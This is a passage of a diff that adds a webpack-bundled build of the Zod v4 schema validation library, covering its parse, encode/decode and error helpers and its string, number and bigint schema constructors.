+        result = await result;
+    return result.issues.length === 0;
+};
+const _encode = (_Err) => {
+    const parse = _parse(_Err);
+    const fn = (schema, value, _ctx, _params) => {
+        const ctx = _ctx ? { ..._ctx, direction: "backward" } : { direction: "backward" };
+        return parse(schema, value, ctx, finalizeParams(fn, _params));
+    };
+    return fn;
+};
+const encode = /* @__PURE__*/ _encode($ZodRealError);
+const _decode = (_Err) => {
+    const parse = _parse(_Err);
+    const fn = (schema, value, _ctx, _params) => {
+        return parse(schema, value, _ctx, finalizeParams(fn, _params));
+    };
+    return fn;
+};
+const decode = /* @__PURE__*/ _decode($ZodRealError);
+const _encodeAsync = (_Err) => {
+    const parseAsync = _parseAsync(_Err);
+    const fn = async (schema, value, _ctx, _params) => {
+        const ctx = _ctx ? { ..._ctx, direction: "backward" } : { direction: "backward" };
+        return (await parseAsync(schema, value, ctx, finalizeParams(fn, _params)));
+    };
+    return fn;
+};
+const encodeAsync = /* @__PURE__*/ _encodeAsync($ZodRealError);
+const _decodeAsync = (_Err) => {
+    const parseAsync = _parseAsync(_Err);
+    const fn = async (schema, value, _ctx, _params) => {
+        return await parseAsync(schema, value, _ctx, finalizeParams(fn, _params));
+    };
+    return fn;
+};
+const decodeAsync = /* @__PURE__*/ _decodeAsync($ZodRealError);
+const _safeEncode = (_Err) => (schema, value, _ctx) => {
+    const ctx = _ctx ? { ..._ctx, direction: "backward" } : { direction: "backward" };
+    return _safeParse(_Err)(schema, value, ctx);
+};
+const safeEncode = /* @__PURE__*/ _safeEncode($ZodRealError);
+const _safeDecode = (_Err) => (schema, value, _ctx) => {
+    return _safeParse(_Err)(schema, value, _ctx);
+};
+const safeDecode = /* @__PURE__*/ _safeDecode($ZodRealError);
+const _safeEncodeAsync = (_Err) => async (schema, value, _ctx) => {
+    const ctx = _ctx ? { ..._ctx, direction: "backward" } : { direction: "backward" };
+    return _safeParseAsync(_Err)(schema, value, ctx);
+};
+const safeEncodeAsync = /* @__PURE__*/ _safeEncodeAsync($ZodRealError);
+const _safeDecodeAsync = (_Err) => async (schema, value, _ctx) => {
+    return _safeParseAsync(_Err)(schema, value, _ctx);
+};
+const safeDecodeAsync = /* @__PURE__*/ _safeDecodeAsync($ZodRealError);
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/errors.js
+
+
+
+/* Prototypes that already carry the lazy helper methods. Seeded with the
+ * intrinsics so that `init` on a foreign object — it accepts any object —
+ * can never install an accessor onto a prototype we do not own. */
+const _installedErrorProtos = /* @__PURE__ */ new WeakSet([Object.prototype, Error.prototype]);
+/* Helper methods live as non-enumerable lazy getters on the shared
+ * prototype instead of own properties on every instance. On first
+ * access the getter allocates the per-instance closure and caches it
+ * as a non-enumerable own property, so detached usage still works and
+ * the allocation only happens for methods actually touched. */
+function _lazyMethod(proto, key, make) {
+    Object.defineProperty(proto, key, {
+        configurable: true,
+        enumerable: false,
+        get() {
+            const value = make(this);
+            Object.defineProperty(this, key, { value, configurable: true, writable: true });
+            return value;
+        },
+        set(value) {
+            Object.defineProperty(this, key, { value, configurable: true, writable: true });
+        },
+    });
+}
+const errors_initializer = (inst, issues) => {
+    $ZodError.init(inst, issues);
+    inst.name = "ZodError";
+    const proto = Object.getPrototypeOf(inst);
+    if (_installedErrorProtos.has(proto))
+        return;
+    _installedErrorProtos.add(proto);
+    _lazyMethod(proto, "format", (self) => (mapper) => formatError(self, mapper));
+    _lazyMethod(proto, "flatten", (self) => (mapper) => flattenError(self, mapper));
+    _lazyMethod(proto, "addIssue", (self) => (issue) => {
+        self.issues.push(issue);
+        self.message = JSON.stringify(self.issues, jsonStringifyReplacer, 2);
+    });
+    _lazyMethod(proto, "addIssues", (self) => (issues) => {
+        self.issues.push(...issues);
+        self.message = JSON.stringify(self.issues, jsonStringifyReplacer, 2);
+    });
+    Object.defineProperty(proto, "isEmpty", {
+        configurable: true,
+        enumerable: false,
+        get() {
+            return this.issues.length === 0;
+        },
+    });
+};
+const ZodError = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodError", errors_initializer)));
+const ZodRealError = /*@__PURE__*/ $constructor("ZodError", errors_initializer, undefined, {
+    Parent: Error,
+});
+// /** @deprecated Use `z.core.$ZodErrorMapCtx` instead. */
+// export type ErrorMapCtx = core.$ZodErrorMapCtx;
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/parse.js
+
+
+const classic_parse_parse = /* @__PURE__ */ _parse(ZodRealError);
+const classic_parse_parseAsync = /* @__PURE__ */ _parseAsync(ZodRealError);
+const parse_safeParse = /* @__PURE__ */ _safeParse(ZodRealError);
+const parse_safeParseAsync = /* @__PURE__ */ _safeParseAsync(ZodRealError);
+
+// Codec functions
+const parse_encode = /* @__PURE__ */ _encode(ZodRealError);
+const parse_decode = /* @__PURE__ */ _decode(ZodRealError);
+const parse_encodeAsync = /* @__PURE__ */ _encodeAsync(ZodRealError);
+const parse_decodeAsync = /* @__PURE__ */ _decodeAsync(ZodRealError);
+const parse_safeEncode = /* @__PURE__ */ _safeEncode(ZodRealError);
+const parse_safeDecode = /* @__PURE__ */ _safeDecode(ZodRealError);
+const parse_safeEncodeAsync = /* @__PURE__ */ _safeEncodeAsync(ZodRealError);
+const parse_safeDecodeAsync = /* @__PURE__ */ _safeDecodeAsync(ZodRealError);
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/classic/schemas.js
+
+
+
+
+
+
+
+
+// Register English as the default locale on first ZodType construction. Hooked into the `ZodType` `$constructor` (rather than a top-level `config(en())` in `external.ts`) so bundlers honoring `sideEffects: false` can't tree-shake it out — see #5953, #5725. An explicit `z.config(z.locales.xx())` call wins regardless of order, since this only sets the default when none is present.
+function _ensureDefaultLocale() {
+    if (!globalConfig.localeError)
+        config(en());
+}
+// the default memoizer is read by the core container init, which runs before `ZodType.init`, so each container calls this first
+function _ensureDefaultMemoizer() {
+    if (!globalConfig.memoizer)
+        config({ memoizer: memoizer() });
+}
+const ZodType = /*@__PURE__*/ $constructor("ZodType", (inst, def) => {
+    _ensureDefaultLocale();
+    $ZodType.init(inst, def);
+    inst.def = def;
+    inst.type = def.type;
+    return inst;
+}, {
+    check(...chks) {
+        const def = this.def;
+        return this.clone(mergeDefs(def, {
+            checks: [
+                ...(def.checks ?? []),
+                ...chks.map((ch) => typeof ch === "function" ? { _zod: { check: ch, def: { check: "custom" }, onattach: [] } } : ch),
+            ],
+        }), { parent: true });
+    },
+    with(...chks) {
+        return this.check(...chks);
+    },
+    clone(def, params) {
+        return clone(this, def, params);
+    },
+    brand() {
+        return this;
+    },
+    register(reg, meta) {
+        reg.add(this, meta);
+        return this;
+    },
+    refine(check, params) {
+        return this.check(refine(check, params));
+    },
+    superRefine(refinement, params) {
+        return this.check(superRefine(refinement, params));
+    },
+    overwrite(fn) {
+        return this.check(_overwrite(fn));
+    },
+    optional() {
+        return optional(this);
+    },
+    exactOptional() {
+        return exactOptional(this);
+    },
+    nullable() {
+        return nullable(this);
+    },
+    nullish() {
+        return optional(nullable(this));
+    },
+    nonoptional(params) {
+        return nonoptional(this, params);
+    },
+    array() {
+        return array(this);
+    },
+    or(arg) {
+        return union([this, arg]);
+    },
+    and(arg) {
+        return intersection(this, arg);
+    },
+    transform(tx) {
+        return pipe(this, transform(tx));
+    },
+    default(d) {
+        return schemas_default(this, d);
+    },
+    prefault(d) {
+        return prefault(this, d);
+    },
+    catch(params) {
+        return schemas_catch(this, params);
+    },
+    pipe(target) {
+        return pipe(this, target);
+    },
+    readonly() {
+        return readonly(this);
+    },
+    describe(description) {
+        const cl = this.clone();
+        globalRegistry.add(cl, { description });
+        return cl;
+    },
+    meta(...args) {
+        // overloaded: meta() returns the registered metadata, meta(data) returns a clone with `data` registered. The mapped type picks up the second overload, so we accept variadic any-args and return `any` to satisfy both at runtime.
+        if (args.length === 0)
+            return globalRegistry.get(this);
+        const cl = this.clone();
+        globalRegistry.add(cl, args[0]);
+        return cl;
+    },
+    isOptional() {
+        return this.safeParse(undefined).success;
+    },
+    isNullable() {
+        return this.safeParse(null).success;
+    },
+    apply(fn, ...args) {
+        return args.length === 0 ? fn(this) : fn(this, ...args);
+    },
+    // Overrides core's `~standard` to add `jsonSchema`. Must stay a prototype entry: redefining it per instance demotes instances to dictionary mode.
+    get "~standard"() {
+        return hide(this, "~standard", {
+            ...standardProps(this),
+            jsonSchema: {
+                input: createStandardJSONSchemaMethod(this, "input"),
+                output: createStandardJSONSchemaMethod(this, "output"),
+            },
+        });
+    },
+    set "~standard"(value) {
+        own(this, "~standard", value);
+    },
+    parse: function _parse(data, params) {
+        return classic_parse_parse(this, data, params, { callee: _parse });
+    },
+    parseAsync: async function _parseAsync(data, params) {
+        return await classic_parse_parseAsync(this, data, params, { callee: _parseAsync });
+    },
+    safeParse(data, params) {
+        return parse_safeParse(this, data, params);
+    },
+    async safeParseAsync(data, params) {
+        return parse_safeParseAsync(this, data, params);
+    },
+    // `spa` is an alias: same function object as `safeParseAsync`, as before.
+    get spa() {
+        return this?.safeParseAsync;
+    },
+    set spa(value) {
+        own(this, "spa", value);
+    },
+    validate(data, params) {
+        return validate(this, data, params);
+    },
+    validateAsync(data, params) {
+        return parse_validateAsync(this, data, params);
+    },
+    encode: function _encode(data, params) {
+        return parse_encode(this, data, params, { callee: _encode });
+    },
+    decode: function _decode(data, params) {
+        return parse_decode(this, data, params, { callee: _decode });
+    },
+    encodeAsync: async function _encodeAsync(data, params) {
+        return await parse_encodeAsync(this, data, params, { callee: _encodeAsync });
+    },
+    decodeAsync: async function _decodeAsync(data, params) {
+        return await parse_decodeAsync(this, data, params, { callee: _decodeAsync });
+    },
+    safeEncode(data, params) {
+        return parse_safeEncode(this, data, params);
+    },
+    safeDecode(data, params) {
+        return parse_safeDecode(this, data, params);
+    },
+    async safeEncodeAsync(data, params) {
+        return parse_safeEncodeAsync(this, data, params);
+    },
+    async safeDecodeAsync(data, params) {
+        return parse_safeDecodeAsync(this, data, params);
+    },
+    toJSONSchema(params) {
+        return createToJSONSchemaMethod(this, {})(params);
+    },
+    // Reads through to the registry on every access, so it must not cache.
+    get description() {
+        return globalRegistry.get(this)?.description;
+    },
+    // No setter: `schema._def = x` throws, as it did when `_def` was a non-writable own property.
+    get _def() {
+        return this._zod.def;
+    },
+});
+/** @internal */
+const _ZodString = /*@__PURE__*/ $constructor("_ZodString", (inst, def) => {
+    $ZodString.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => stringProcessor(inst, ctx, json, params);
+}, 
+/*@__PURE__*/ derived({
+    format: (inst) => aggregateChecks(inst).format ?? null,
+    minLength: (inst) => aggregateChecks(inst).minimum ?? null,
+    maxLength: (inst) => aggregateChecks(inst).maximum ?? null,
+}, {
+    regex(...args) {
+        return this.check(_regex(...args));
+    },
+    includes(...args) {
+        return this.check(_includes(...args));
+    },
+    startsWith(...args) {
+        return this.check(_startsWith(...args));
+    },
+    endsWith(...args) {
+        return this.check(_endsWith(...args));
+    },
+    min(...args) {
+        return this.check(_minLength(...args));
+    },
+    max(...args) {
+        return this.check(_maxLength(...args));
+    },
+    length(...args) {
+        return this.check(_length(...args));
+    },
+    nonempty(...args) {
+        return this.check(_minLength(1, ...args));
+    },
+    lowercase(params) {
+        return this.check(_lowercase(params));
+    },
+    uppercase(params) {
+        return this.check(_uppercase(params));
+    },
+    trim() {
+        return this.check(_trim());
+    },
+    normalize(...args) {
+        return this.check(_normalize(...args));
+    },
+    toLowerCase() {
+        return this.check(_toLowerCase());
+    },
+    toUpperCase() {
+        return this.check(_toUpperCase());
+    },
+    slugify() {
+        return this.check(_slugify());
+    },
+}));
+const ZodString = /*@__PURE__*/ $constructor("ZodString", (inst, def) => {
+    $ZodString.init(inst, def);
+    _ZodString.init(inst, def);
+}, {
+    email(params) {
+        return this.check(_email(ZodEmail, params));
+    },
+    url(params) {
+        return this.check(_url(ZodURL, params));
+    },
+    jwt(params) {
+        return this.check(_jwt(ZodJWT, params));
+    },
+    emoji(params) {
+        return this.check(api_emoji(ZodEmoji, params));
+    },
+    guid(params) {
+        return this.check(_guid(ZodGUID, params));
+    },
+    uuid(params) {
+        return this.check(_uuid(ZodUUID, params));
+    },
+    uuidv4(params) {
+        return this.check(_uuidv4(ZodUUID, params));
+    },
+    uuidv6(params) {
+        return this.check(_uuidv6(ZodUUID, params));
+    },
+    uuidv7(params) {
+        return this.check(_uuidv7(ZodUUID, params));
+    },
+    nanoid(params) {
+        return this.check(_nanoid(ZodNanoID, params));
+    },
+    cuid(params) {
+        return this.check(_cuid(ZodCUID, params));
+    },
+    cuid2(params) {
+        return this.check(_cuid2(ZodCUID2, params));
+    },
+    ulid(params) {
+        return this.check(_ulid(ZodULID, params));
+    },
+    base64(params) {
+        return this.check(_base64(ZodBase64, params));
+    },
+    base64url(params) {
+        return this.check(_base64url(ZodBase64URL, params));
+    },
+    xid(params) {
+        return this.check(_xid(ZodXID, params));
+    },
+    ksuid(params) {
+        return this.check(_ksuid(ZodKSUID, params));
+    },
+    ipv4(params) {
+        return this.check(_ipv4(ZodIPv4, params));
+    },
+    ipv6(params) {
+        return this.check(_ipv6(ZodIPv6, params));
+    },
+    cidrv4(params) {
+        return this.check(_cidrv4(ZodCIDRv4, params));
+    },
+    cidrv6(params) {
+        return this.check(_cidrv6(ZodCIDRv6, params));
+    },
+    e164(params) {
+        return this.check(_e164(ZodE164, params));
+    },
+    datetime(params) {
+        return this.check(_isoDateTime(ZodISODateTime, params));
+    },
+    date(params) {
+        return this.check(_isoDate(ZodISODate, params));
+    },
+    time(params) {
+        return this.check(_isoTime(ZodISOTime, params));
+    },
+    duration(params) {
+        return this.check(_isoDuration(ZodISODuration, params));
+    },
+});
+function schemas_string(params) {
+    return _string(ZodString, params);
+}
+const ZodStringFormat = /*@__PURE__*/ $constructor("ZodStringFormat", (inst, def) => {
+    $ZodStringFormat.init(inst, def);
+    _ZodString.init(inst, def);
+});
+const ZodISODateTime = /*@__PURE__*/ $constructor("ZodISODateTime", (inst, def) => {
+    $ZodISODateTime.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+const ZodISODate = /*@__PURE__*/ $constructor("ZodISODate", (inst, def) => {
+    $ZodISODate.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+const ZodISOTime = /*@__PURE__*/ $constructor("ZodISOTime", (inst, def) => {
+    $ZodISOTime.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+const ZodISODuration = /*@__PURE__*/ $constructor("ZodISODuration", (inst, def) => {
+    $ZodISODuration.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+const ZodEmail = /*@__PURE__*/ $constructor("ZodEmail", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodEmail.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_email(params) {
+    return core._email(ZodEmail, params);
+}
+const ZodGUID = /*@__PURE__*/ $constructor("ZodGUID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodGUID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_guid(params) {
+    return core._guid(ZodGUID, params);
+}
+const ZodUUID = /*@__PURE__*/ $constructor("ZodUUID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodUUID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_uuid(params) {
+    return core._uuid(ZodUUID, params);
+}
+function uuidv4(params) {
+    return core._uuidv4(ZodUUID, params);
+}
+// ZodUUIDv6
+function uuidv6(params) {
+    return core._uuidv6(ZodUUID, params);
+}
+// ZodUUIDv7
+function uuidv7(params) {
+    return core._uuidv7(ZodUUID, params);
+}
+const ZodURL = /*@__PURE__*/ $constructor("ZodURL", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodURL.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function url(params) {
+    return core._url(ZodURL, params);
+}
+function httpUrl(params) {
+    return core._url(ZodURL, {
+        protocol: regexes.httpProtocol,
+        hostname: regexes.domain,
+        ...util.normalizeParams(params),
+    });
+}
+const ZodEmoji = /*@__PURE__*/ $constructor("ZodEmoji", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodEmoji.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_emoji(params) {
+    return core._emoji(ZodEmoji, params);
+}
+const ZodNanoID = /*@__PURE__*/ $constructor("ZodNanoID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodNanoID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_nanoid(params) {
+    return core._nanoid(ZodNanoID, params);
+}
+/**
+ * @deprecated CUID v1 is deprecated by its authors due to information leakage
+ * (timestamps embedded in the id). Use {@link ZodCUID2} instead.
+ * See https://github.com/paralleldrive/cuid.
+ */
+const ZodCUID = /*@__PURE__*/ $constructor("ZodCUID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodCUID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+/**
+ * Validates a CUID v1 string.
+ *
+ * @deprecated CUID v1 is deprecated by its authors due to information leakage
+ * (timestamps embedded in the id). Use {@link cuid2 | `z.cuid2()`} instead.
+ * See https://github.com/paralleldrive/cuid.
+ */
+function schemas_cuid(params) {
+    return core._cuid(ZodCUID, params);
+}
+const ZodCUID2 = /*@__PURE__*/ $constructor("ZodCUID2", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodCUID2.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_cuid2(params) {
+    return core._cuid2(ZodCUID2, params);
+}
+const ZodULID = /*@__PURE__*/ $constructor("ZodULID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodULID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_ulid(params) {
+    return core._ulid(ZodULID, params);
+}
+const ZodXID = /*@__PURE__*/ $constructor("ZodXID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodXID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_xid(params) {
+    return core._xid(ZodXID, params);
+}
+const ZodKSUID = /*@__PURE__*/ $constructor("ZodKSUID", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodKSUID.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_ksuid(params) {
+    return core._ksuid(ZodKSUID, params);
+}
+const ZodIPv4 = /*@__PURE__*/ $constructor("ZodIPv4", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodIPv4.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_ipv4(params) {
+    return core._ipv4(ZodIPv4, params);
+}
+const ZodMAC = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodMAC", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    core.$ZodMAC.init(inst, def);
+    ZodStringFormat.init(inst, def);
+})));
+function schemas_mac(params) {
+    return core._mac(ZodMAC, params);
+}
+const ZodIPv6 = /*@__PURE__*/ $constructor("ZodIPv6", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodIPv6.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_ipv6(params) {
+    return core._ipv6(ZodIPv6, params);
+}
+const ZodCIDRv4 = /*@__PURE__*/ $constructor("ZodCIDRv4", (inst, def) => {
+    $ZodCIDRv4.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_cidrv4(params) {
+    return core._cidrv4(ZodCIDRv4, params);
+}
+const ZodCIDRv6 = /*@__PURE__*/ $constructor("ZodCIDRv6", (inst, def) => {
+    $ZodCIDRv6.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_cidrv6(params) {
+    return core._cidrv6(ZodCIDRv6, params);
+}
+const ZodBase64 = /*@__PURE__*/ $constructor("ZodBase64", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodBase64.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_base64(params) {
+    return core._base64(ZodBase64, params);
+}
+const ZodBase64URL = /*@__PURE__*/ $constructor("ZodBase64URL", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodBase64URL.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_base64url(params) {
+    return core._base64url(ZodBase64URL, params);
+}
+const ZodE164 = /*@__PURE__*/ $constructor("ZodE164", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodE164.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function schemas_e164(params) {
+    return core._e164(ZodE164, params);
+}
+const ZodCreditCard = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodCreditCard", (inst, def) => {
+    core.$ZodCreditCard.init(inst, def);
+    ZodStringFormat.init(inst, def);
+})));
+function schemas_creditCard(params) {
+    return core._creditCard(ZodCreditCard, params);
+}
+const ZodIBAN = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodIBAN", (inst, def) => {
+    core.$ZodIBAN.init(inst, def);
+    ZodStringFormat.init(inst, def);
+})));
+function schemas_iban(params) {
+    return core._iban(ZodIBAN, params);
+}
+const ZodJWT = /*@__PURE__*/ $constructor("ZodJWT", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    $ZodJWT.init(inst, def);
+    ZodStringFormat.init(inst, def);
+});
+function jwt(params) {
+    return core._jwt(ZodJWT, params);
+}
+const ZodCustomStringFormat = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodCustomStringFormat", (inst, def) => {
+    // ZodStringFormat.init(inst, def);
+    core.$ZodCustomStringFormat.init(inst, def);
+    ZodStringFormat.init(inst, def);
+})));
+function stringFormat(format, fnOrRegex, _params = {}) {
+    return core._stringFormat(ZodCustomStringFormat, format, fnOrRegex, _params);
+}
+function schemas_hostname(_params) {
+    return core._stringFormat(ZodCustomStringFormat, "hostname", regexes.hostname, _params);
+}
+function schemas_hex(_params) {
+    return core._stringFormat(ZodCustomStringFormat, "hex", regexes.hex, _params);
+}
+function schemas_currencyCode(_params) {
+    return core._stringFormat(ZodCustomStringFormat, "currency_code", regexes.currencyCode, _params);
+}
+function hash(alg, params) {
+    const enc = params?.enc ?? "hex";
+    const format = `${alg}_${enc}`;
+    const regex = core.regexes[format];
+    if (!regex)
+        throw new Error(`Unrecognized hash format: ${format}`);
+    return core._stringFormat(ZodCustomStringFormat, format, regex, params);
+}
+const ZodNumber = /*@__PURE__*/ $constructor("ZodNumber", (inst, def) => {
+    $ZodNumber.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => numberProcessor(inst, ctx, json, params);
+    inst.isFinite = true;
+}, 
+/*@__PURE__*/ derived({
+    minValue: (inst) => {
+        const { minimum, exclusiveMinimum } = aggregateChecks(inst);
+        return Math.max(minimum ?? Number.NEGATIVE_INFINITY, exclusiveMinimum ?? Number.NEGATIVE_INFINITY);
+    },
+    maxValue: (inst) => {
+        const { maximum, exclusiveMaximum } = aggregateChecks(inst);
+        return Math.min(maximum ?? Number.POSITIVE_INFINITY, exclusiveMaximum ?? Number.POSITIVE_INFINITY);
+    },
+    isInt: (inst) => {
+        const { isInt, multipleOf } = aggregateChecks(inst);
+        return !!isInt || !!multipleOf?.some(Number.isSafeInteger);
+    },
+    format: (inst) => aggregateChecks(inst).format ?? null,
+}, {
+    gt(value, params) {
+        return this.check(_gt(value, params));
+    },
+    gte(value, params) {
+        return this.check(_gte(value, params));
+    },
+    min(value, params) {
+        return this.check(_gte(value, params));
+    },
+    lt(value, params) {
+        return this.check(_lt(value, params));
+    },
+    lte(value, params) {
+        return this.check(_lte(value, params));
+    },
+    max(value, params) {
+        return this.check(_lte(value, params));
+    },
+    int(params) {
+        return this.check(schemas_int(params));
+    },
+    safe(params) {
+        return this.check(schemas_int(params));
+    },
+    positive(params) {
+        return this.check(_gt(0, params));
+    },
+    nonnegative(params) {
+        return this.check(_gte(0, params));
+    },
+    negative(params) {
+        return this.check(_lt(0, params));
+    },
+    nonpositive(params) {
+        return this.check(_lte(0, params));
+    },
+    multipleOf(value, params) {
+        return this.check(_multipleOf(value, params));
+    },
+    step(value, params) {
+        return this.check(_multipleOf(value, params));
+    },
+    finite() {
+        return this;
+    },
+}));
+function schemas_number(params) {
+    return core._number(ZodNumber, params);
+}
+const ZodNumberFormat = /*@__PURE__*/ $constructor("ZodNumberFormat", (inst, def) => {
+    $ZodNumberFormat.init(inst, def);
+    ZodNumber.init(inst, def);
+});
+function schemas_int(params) {
+    return _int(ZodNumberFormat, params);
+}
+function float32(params) {
+    return core._float32(ZodNumberFormat, params);
+}
+function float64(params) {
+    return core._float64(ZodNumberFormat, params);
+}
+function int32(params) {
+    return core._int32(ZodNumberFormat, params);
+}
+function uint32(params) {
+    return core._uint32(ZodNumberFormat, params);
+}
+const ZodBoolean = /*@__PURE__*/ $constructor("ZodBoolean", (inst, def) => {
+    $ZodBoolean.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => booleanProcessor(inst, ctx, json, params);
+});
+function schemas_boolean(params) {
+    return _boolean(ZodBoolean, params);
+}
+const ZodBigInt = /*@__PURE__*/ $constructor("ZodBigInt", (inst, def) => {
+    $ZodBigInt.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => bigintProcessor(inst, ctx, json, params);
+}, 
+/*@__PURE__*/ derived({
+    minValue: (inst) => aggregateChecks(inst).minimum ?? null,
+    maxValue: (inst) => aggregateChecks(inst).maximum ?? null,
+    format: (inst) => aggregateChecks(inst).format ?? null,
+}, {
+    gte(value, params) {
+        return this.check(_gte(value, params));
+    },
+    min(value, params) {
+        return this.check(_gte(value, params));
+    },
+    gt(value, params) {
+        return this.check(_gt(value, params));
+    },
+    lt(value, params) {
+        return this.check(_lt(value, params));
+    },
+    lte(value, params) {
+        return this.check(_lte(value, params));
+    },
+    max(value, params) {
+        return this.check(_lte(value, params));
+    },
+    positive(params) {
+        return this.check(_gt(BigInt(0), params));
+    },
+    negative(params) {
+        return this.check(_lt(BigInt(0), params));
+    },
+    nonpositive(params) {
+        return this.check(_lte(BigInt(0), params));
+    },
+    nonnegative(params) {
+        return this.check(_gte(BigInt(0), params));
+    },
+    multipleOf(value, params) {
+        return this.check(_multipleOf(value, params));
+    },
+}));
+function schemas_bigint(params) {
+    return core._bigint(ZodBigInt, params);
+}
+const ZodBigIntFormat = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodBigIntFormat", (inst, def) => {
+    core.$ZodBigIntFormat.init(inst, def);
+    ZodBigInt.init(inst, def);
+})));
+function int64(params) {
+    return core._int64(ZodBigIntFormat, params);
+}
+function uint64(params) {
+    return core._uint64(ZodBigIntFormat, params);
+}
+const ZodSymbol = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodSymbol", (inst, def) => {
+    core.$ZodSymbol.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.symbolProcessor(inst, ctx, json, params);
+})));
+function symbol(params) {
+    return core._symbol(ZodSymbol, params);
+}
+const ZodUndefined = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodUndefined", (inst, def) => {
+    core.$ZodUndefined.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.undefinedProcessor(inst, ctx, json, params);
+})));
+function schemas_undefined(params) {
+    return core._undefined(ZodUndefined, params);
+}
+
+const ZodNull = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodNull", (inst, def) => {
+    core.$ZodNull.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.nullProcessor(inst, ctx, json, params);
+})));
+function schemas_null(params) {
+    return core._null(ZodNull, params);
+}
+
+const ZodAny = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodAny", (inst, def) => {
+    core.$ZodAny.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.anyProcessor(inst, ctx, json, params);
+})));
+function any() {
+    return core._any(ZodAny);
+}
+const ZodUnknown = /*@__PURE__*/ $constructor("ZodUnknown", (inst, def) => {
+    $ZodUnknown.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => unknownProcessor(inst, ctx, json, params);
+});
+function unknown() {
+    return _unknown(ZodUnknown);
+}
+const ZodNever = /*@__PURE__*/ $constructor("ZodNever", (inst, def) => {
+    $ZodNever.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => neverProcessor(inst, ctx, json, params);
+});
+function never(params) {
+    return _never(ZodNever, params);
+}
+const ZodVoid = /*@__PURE__*/ (/* unused pure expression or super */ null && (core.$constructor("ZodVoid", (inst, def) => {
+    core.$ZodVoid.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => processors.voidProcessor(inst, ctx, json, params);
+})));
+function schemas_void(params) {
+    return core._void(ZodVoid, params);
+}
+
+const ZodDate = /*@__PURE__*/ $constructor("ZodDate", (inst, def) => {
+    $ZodDate.init(inst, def);
+    ZodType.init(inst, def);
+    inst._zod.processJSONSchema = (ctx, json, params) => dateProcessor(inst, ctx, json, params);
+    inst.min = (value, params) => inst.check(_gte(value, params));
+    inst.max = (value, params) => inst.check(_lte(value, params));
+}, 
+/*@__PURE__*/ derived({
+    minDate: (inst) => {
+        const { minimum } = aggregateChecks(inst);
+        return minimum ? new Date(minimum) : null;
+    },
